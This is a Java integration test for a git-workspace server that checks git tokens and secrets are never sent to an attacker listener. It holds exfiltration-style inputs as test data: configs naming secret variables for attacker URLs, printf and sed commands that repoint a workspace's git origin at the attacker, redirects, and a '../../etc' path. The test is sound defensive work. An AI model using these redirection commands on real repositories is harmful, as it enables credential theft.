package dev.derrick.server;

import com.fasterxml.jackson.databind.JsonNode;
import dev.derrick.tck.GitTestServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Credential exfiltration against the packaged jar ({@code -p local -s http}): the real token-protected git server
 * on 127.0.0.1 is the configured host, an attacker's listener reached as {@code localhost} (another host name, another
 * port) records every request and answers 401 to lure credentials. Every route an API caller has to make the server
 * send a token elsewhere is tried; the listener must receive no {@code Authorization} header and no secret.
 */
@Timeout(value = 5, unit = TimeUnit.MINUTES)
class TokenPolicyIT {
    private static final String GIT_TOKEN = "git-token-0c4e7d1f";
    private static final String AWS_SECRET = "aws-secret-9f2b6a7e";
    private static final String API_TOKEN = "api-token-51d0b2c8";
    private static GitTestServer git;
    private static RecordingListener attacker;
    private static RecordingListener redirector;
    private static DerrickProcess derrick;
    private static ApiClient api;

    @TempDir
    static Path dir;

    @BeforeAll
    static void start() throws Exception {
        git = GitTestServer.start(GIT_TOKEN);
        git.createRepository("app", Map.of("README.md", "hello\n"));
        attacker = new RecordingListener();
        // a "git host" on 127.0.0.1 that redirects every request to the attacker
        redirector = new RecordingListener(attacker.url("localhost", ""));
        String config = "{\"name\": \"policy\", \"repositories\": [{\"url\": \"" + git.url("app") + "\", \"path\": \"app\","
                + " \"auth\": {\"token_env\": \"GIT_TOKEN\"}}]}";
        Path file = Files.writeString(dir.resolve("config.json"), config);
        int port = DerrickProcess.freePort();
        derrick = DerrickProcess.start(dir, Map.of("GIT_TOKEN", GIT_TOKEN, "AWS_SECRET_ACCESS_KEY", AWS_SECRET,
                "SECOND_TOKEN", GIT_TOKEN, "DERRICK_API_TOKEN", API_TOKEN), List.of("-p", "local", "-s", "http",
                "-w", file.toString(), "--port", String.valueOf(port), "--token-host", "SECOND_TOKEN=127.0.0.1",
                "--cache-dir", dir.resolve("cache").toString()), port)
                .awaitHealthy(Duration.ofSeconds(60));
        api = new ApiClient(derrick.uri(), API_TOKEN);
    }

    @AfterAll
    static void stop() throws Exception {
        if (derrick != null) {
            derrick.terminate(Duration.ofSeconds(60));
            derrick.close();
        }
        if (attacker != null) {
            attacker.close();
            redirector.close();
        }
        if (git != null) {
            git.close();
        }
    }

    private static String repoConfig(String url, String auth) {
        return "{\"config\": {\"name\": \"evil\", \"repositories\": [{\"url\": " + ApiClient.quote(url)
                + ", \"path\": \"x\"" + (auth == null ? "" : ", \"auth\": " + auth) + "}]}}";
    }

    private static JsonNode refused(String body, String... messageParts) {
        HttpResponse<byte[]> r = api.send("POST", "/workspaces", body);
        String text = new String(r.body(), StandardCharsets.UTF_8);
        assertThat(r.statusCode()).as(text).isEqualTo(400);
        JsonNode json = ApiClient.json(r);
        assertThat(json.get("error").asText()).isEqualTo("invalid_request");
        assertThat(json.get("message").asText()).contains(messageParts);
        return json;
    }

    @Test
    void createRequestsCannotSendTokensToOtherHostsOrNameOtherVariables() {
        String evil = attacker.url("localhost", "/x.git");
        refused(repoConfig(evil, "{\"token_env\": \"GIT_TOKEN\"}"), "config.repositories[0].auth.token_env",
                "--token-host GIT_TOKEN=localhost", "127.0.0.1");
        refused(repoConfig(evil, "{\"token_env\": \"AWS_SECRET_ACCESS_KEY\"}"),
                "--token-host AWS_SECRET_ACCESS_KEY=localhost");
        // a variable the server never sends anywhere, even to the configured git host
        refused(repoConfig(git.url("app"), "{\"token_env\": \"AWS_SECRET_ACCESS_KEY\"}"), "to no host",
                "--token-host AWS_SECRET_ACCESS_KEY=127.0.0.1");
        refused(repoConfig(evil, "{\"token_env\": \"PATH\"}"), "--token-host PATH=localhost");
        refused(repoConfig(git.url("app"), "{\"token_env\": \"DERRICK_API_TOKEN\"}"), "DERRICK_API_TOKEN");
        // SECOND_TOKEN is allowed to 127.0.0.1 only, by --token-host
        refused(repoConfig(evil, "{\"token_env\": \"SECOND_TOKEN\"}"), "--token-host SECOND_TOKEN=localhost");
        // inline tokens only go to hosts the server's tokens go to
        refused(repoConfig(evil, "{\"token\": \"inline-secret\"}"), "auth.token", "localhost");
        // same host, other spelling of the same name is still another host name: refused, never resolved
        refused(repoConfig("http://LOCALHOST:" + attacker.port() + "/x.git", "{\"token_env\": \"GIT_TOKEN\"}"),
                "localhost");
        assertThat(attacker.requests()).isEmpty();
    }

    @Test
    void localRepositoriesAndNonUrlsAreRefusedInApiConfigs() {
        refused(repoConfig(git.repositoryDir("app").toUri().toString(), null), "config.repositories[0].url",
                "--allow-local-repos");
        refused(repoConfig(git.repositoryDir("app").toString(), null), "--allow-local-repos");
        refused(repoConfig("../../etc", null), "--allow-local-repos");
        refused(repoConfig("not a url", null), "config.repositories[0].url");
        refused(repoConfig("ftp://example.com/x.git", null), "config.repositories[0].url", "ftp");
        refused(repoConfig("https:///x.git", null), "config.repositories[0].url", "no host");
    }

    @Test
    void allowedConfigsCloneAndTheWorkspaceCannotRedirectTheTokenLater() throws Exception {
        String id = api.create(repoConfig(git.url("app"), "{\"token_env\": \"GIT_TOKEN\"}"));
        assertThat(api.cmd(id, "cat x/README.md").get("output").asText()).isEqualTo("hello\n");
        String second = api.create(repoConfig(git.url("app"), "{\"token_env\": \"SECOND_TOKEN\"}"));
        assertThat(api.cmd(second, "cat x/README.md").get("output").asText()).isEqualTo("hello\n");

        // the workspace rewrites its own git config to point origin at the attacker, two ways
        api.cmd(id, "printf '[url \"" + attacker.url("localhost", "/") + "\"]\\n\\tinsteadOf = http://127.0.0.1:"
                + git.port() + "/\\n' >> x/.git/config");
        HttpResponse<byte[]> fetch = api.send("POST", "/workspaces/" + id + "/fetch", "{}");
        assertThat(fetch.statusCode()).as(new String(fetch.body(), StandardCharsets.UTF_8)).isIn(200, 502);
        api.cmd(second, "sed -i 's#url = .*#url = " + attacker.url("localhost", "/x.git") + "#' x/.git/config");
        HttpResponse<byte[]> fetch2 = api.send("POST", "/workspaces/" + second + "/fetch", "{}");
        assertThat(fetch2.statusCode()).as(new String(fetch2.body(), StandardCharsets.UTF_8)).isIn(200, 502);
        assertThat(api.send("GET", "/health", null).statusCode()).isEqualTo(200);

        assertThat(attacker.authorizationHeaders()).as("Authorization headers the attacker received: %s",
                attacker.requests()).isZero();
        assertThat(attacker.received(GIT_TOKEN)).isFalse();
        assertThat(attacker.received(AWS_SECRET)).isFalse();
    }

    @Test
    void aRedirectFromTheConfiguredHostToAnotherCarriesNoCredentials() throws Exception {
        // the operator allowed GIT_TOKEN for 127.0.0.1 (the -w config); a server there redirects to the attacker
        String url = redirector.url("127.0.0.1", "/git/app.git");
        HttpResponse<byte[]> r = api.send("POST", "/workspaces", repoConfig(url, "{\"token_env\": \"GIT_TOKEN\"}"));
        String text = new String(r.body(), StandardCharsets.UTF_8);
        assertThat(r.statusCode()).as(text).isEqualTo(502);
        assertThat(text).doesNotContain(GIT_TOKEN);
        assertThat(redirector.requests()).isNotEmpty();
        assertThat(redirector.authorizationHeaders()).isZero();
        // with the token in play, git does not even connect to the other host
        assertThat(attacker.requests()).as("%s", attacker.requests()).isEmpty();
        assertThat(derrick.stderr()).contains("refusing to connect to localhost");
        assertThat(attacker.received(GIT_TOKEN)).isFalse();
        assertThat(derrick.stderr()).doesNotContain(GIT_TOKEN).doesNotContain(AWS_SECRET);
    }
}
